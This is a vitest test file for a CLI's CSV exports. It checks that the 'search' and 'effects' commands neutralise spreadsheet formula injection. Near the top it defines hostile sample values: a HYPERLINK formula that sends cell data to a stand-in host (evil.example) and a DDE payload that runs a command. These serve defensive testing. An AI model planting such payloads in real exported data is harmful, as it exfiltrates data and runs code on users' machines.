import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../../test/helpers/cli.js';
import { openStores } from '../store/open-stores.js';
import { serviceRow } from '../schema/service-observation.js';
import { writeServices } from '../services/service-writer.js';
import { createEnricher } from '../enrich/index.js';
import { splitCsvLine } from '../enrich/csv-fields.js';

const KEY_TYPE = '=HYPERLINK("http://evil.example/?"&A1,"x")';
const TLS_VERSION = '@SUM(1+1)';
const CIPHER = "+cmd|' /C calc'!A0";

/** The CSV the CLI printed, as header and one record per line (no cell here holds a line break). */
function parse(csv: string): { header: string[]; rows: string[][] } {
  const lines = csv.split('\r\n');
  expect(lines.at(-1)).toBe('');
  const [head, ...rest] = lines.slice(0, -1).map((l) => splitCsvLine(l) ?? []);
  return { header: head ?? [], rows: rest };
}

describe('CLI CSV outputs: sakimori search --export csv, sakimori effects --csv', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'sakimori-csv-cli-'));
    const stores = await openStores({ dataDir: dir });
    try {
      await writeServices(stores.events, createEnricher({}), [
        serviceRow({ ip: '192.0.2.7', port: 443, transport: 'tcp', service: 'https', ssh_host_key_type: KEY_TYPE, tls_version: TLS_VERSION, tls_cipher: CIPHER, http_favicon_hash: -7 }, '2026-11-01T00:00:00Z'),
      ], { dedupToken: 'hostile' });
      const notified = new Date(Date.now() - 40 * 86_400_000);
      await stores.state.query(
        `INSERT INTO cases (id, recipient, recipient_name, ip, kind, detail, device_model, state, first_seen, last_seen, opened_at, notified_at)
         VALUES (1, 'org:x', 'ISP X', '192.0.2.7', 'default_credential', '{}', $1, 'notified', $2, $2, $2, $2)`,
        [KEY_TYPE, notified],
      );
      await stores.state.query(`INSERT INTO case_events (case_id, at, from_state, to_state, reason, evidence) VALUES (1, $1, 'new', 'notified', 'x', '{"round": 1}')`, [notified]);
    } finally {
      await stores.close();
    }
  }, 120_000);
  afterAll(async () => { await rm(dir, { recursive: true, force: true }); });

  it('search --export csv neutralises the hostile host-key type, TLS version and cipher', async () => {
    const r = await runCli(['--data', dir, 'search', '--export', 'csv', '*']);
    expect(r.code, r.stderr).toBe(0);
    const { header, rows } = parse(r.stdout);
    expect(rows).toHaveLength(1);
    const cell = (name: string): string => rows[0]?.[header.indexOf(name)] ?? `missing ${name}`;
    expect(cell('ssh_host_key_type')).toBe(`'${KEY_TYPE}`);
    expect(cell('tls_version')).toBe(`'${TLS_VERSION}`);
    expect(cell('tls_cipher')).toBe(`'${CIPHER}`);
    expect(cell('http_favicon_hash')).toBe('-7');
    expect(r.stdout).toContain(`"'@SUM(1+1)"`);
  }, 120_000);

  it('effects --csv neutralises a hostile device model', async () => {
    const r = await runCli(['--data', dir, 'effects', '--by', 'device_model', '--csv']);
    expect(r.code, r.stderr).toBe(0);
    const { header, rows } = parse(r.stdout);
    expect(header[0]).toBe('group');
    expect(rows.map((x) => x[0])).toEqual([`'${KEY_TYPE}`]);
    expect(r.stdout).toContain(`\r\n"'=HYPERLINK(`);
  }, 120_000);
});
